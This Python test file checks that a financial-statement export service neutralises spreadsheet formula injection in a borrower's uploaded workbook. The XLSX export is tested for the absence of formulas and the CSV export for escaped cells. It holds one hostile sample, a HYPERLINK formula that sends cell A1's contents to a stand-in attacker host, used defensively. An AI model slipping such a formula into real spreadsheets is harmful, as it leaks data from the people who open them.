"""The export over the API, end to end: a workbook whose line name and organisation are
formulas as text goes through the real parser into an XLSX with no formula and a CSV with the
cells neutralised; the header block names the organisation."""

from __future__ import annotations

import csv
import io
import zipfile

import httpx
import openpyxl
import pytest
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from services.arm_core.app import CoreApp
from services.arm_core.documents.export import TABLE_HEADING
from services.devstack._samples import INCOME, INCOME_LABELS, statement_sheet
from tests.arm_core.web._recognition import upload_and_recognize
from tests.builders import write_xlsx

pytestmark = [pytest.mark.db, pytest.mark.wire]

INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"Выручка")'
_MARK = "Выручка-метка"


def _poisoned_income() -> bytes:
    """The ОФР with the 2110 name a text cell `=HYPERLINK(…)` (a string, as a borrower's
    file may hold it: xlsxwriter would write a formula, so the cell is set afterwards)."""
    lines = [(code, _MARK if code == "2110" else name, amounts) for code, name, amounts in INCOME]
    sheet = statement_sheet(
        "ОФР", "Отчет о финансовых результатах", "за 2024 г.", "0710002", INCOME_LABELS, lines
    )
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx([sheet])))
    cell = next(c for row in book.active.iter_rows() for c in row if c.value == _MARK)
    cell.value = INJECTED
    cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


async def test_a_formula_in_a_borrowers_line_name_comes_out_as_text(
    app: CoreApp, client: httpx.AsyncClient, sessions: async_sessionmaker[AsyncSession]
) -> None:
    recognised = await upload_and_recognize(app, client, sessions, "p.xlsx", _poisoned_income())
    url = f"/api/v1/documents/{recognised.document_id}/export"
    xlsx = await client.get(url, params={"format": "xlsx"})
    assert xlsx.status_code == 200
    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    names = [row[1] for row in sheet.iter_rows(values_only=True)]
    assert INJECTED in names, names
    start = next(r for r in range(1, 30) if sheet.cell(r, 1).value == TABLE_HEADING)
    assert start > 5 and sheet.cell(2, 1).value == "Организация"

    text = (await client.get(url, params={"format": "csv"})).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    line = next(r for r in rows if r[0] == "2110")
    assert line[1] == "'" + INJECTED
    assert all(not cell.startswith("=") for row in rows for cell in row)
